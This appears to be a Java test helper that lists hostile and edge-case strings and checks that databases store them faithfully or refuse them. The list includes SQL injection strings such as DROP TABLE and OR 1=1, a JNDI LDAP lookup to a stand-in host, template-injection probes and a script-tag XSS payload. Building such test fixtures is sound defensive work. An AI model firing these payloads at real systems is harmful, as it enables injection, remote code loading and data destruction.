package dev.tenon.testkit;

import java.util.List;

/** Texts that have harmed others: each comes back from a database as it was, or is refused. */
final class HostileTexts {
    /** None of them is part of it, except the empty text. */
    static final String HARMLESS = "plain";

    private static final int LONG = 1 << 20;

    private static final List<String> KEPT = List.of(
            "'",
            "''",
            "'; DROP TABLE \"Thing\"; --",
            "\"; DELETE FROM Thing; /*",
            "` OR 1=1 #",
            "') OR ('a' = 'a",
            "-- the end",
            "/* no end",
            "*/",
            ";",
            "\\",
            "\\'; --",
            "\\\\",
            "\\%",
            "%",
            "_",
            "%_%",
            "[!x]*?",
            "?",
            "??",
            "?1",
            ":id",
            "@id",
            "$1",
            "$$x$$",
            "{}",
            "{fn now()}",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "#{1+1}",
            "<script>alert('x')</script>",
            "\uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDC67",
            "\u202Etxet\u202C",
            "\u0645\u0631\u062D\u0628\u0627",
            "\u200F",
            "\uFEFFx",
            "\u2028\u0085",
            "\r\n\t",
            "\u0001\u001B\u001F\u007F",
            "e\u0301",
            " both ends ",
            "NULL",
            "undefined",
            "1e9999",
            "0x41",
            "a.b[0].\"c\"",
            "$.k");

    private static final List<String> PERHAPS_REFUSED =
            List.of("\u0000", "a\u0000b", "\uD800", "a\uDFFFb", "\uDE00\uD83D", "'%_\\ ".repeat(LONG / 5));

    private HostileTexts() {}

    /** Those that every database keeps. */
    static List<String> kept() {
        return KEPT;
    }

    /** Those that a database may refuse, for it cannot keep them or they are too long. */
    static List<String> perhapsRefused() {
        return PERHAPS_REFUSED;
    }

    /** The text as JSON. */
    static String json(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' || c == '\\') {
                json.append('\\').append(c);
            } else if (c < ' ') {
                json.append("\\u%04x".formatted((int) c));
            } else {
                json.append(c);
            }
        }
        return json.append('"').toString();
    }

    /** The text that is the only value of an object in JSON. */
    static String ofJson(String object) {
        int from = object.indexOf('"', object.indexOf(':')) + 1;
        int end = object.lastIndexOf('"');
        StringBuilder text = new StringBuilder();
        for (int at = from; at < end; at++) {
            char c = object.charAt(at);
            if (c != '\\') {
                text.append(c);
            } else if (object.charAt(++at) == 'u') {
                text.append((char) Integer.parseInt(object.substring(at + 1, at + 5), 16));
                at += 4;
            } else {
                int letter = "bfnrt".indexOf(object.charAt(at));
                text.append(letter < 0 ? object.charAt(at) : "\b\f\n\r\t".charAt(letter));
            }
        }
        return text.toString();
    }

    /** For messages. */
    static String named(String text) {
        return text.length() > 40 ? text.substring(0, 40) + "… of " + text.length() : text;
    }
}
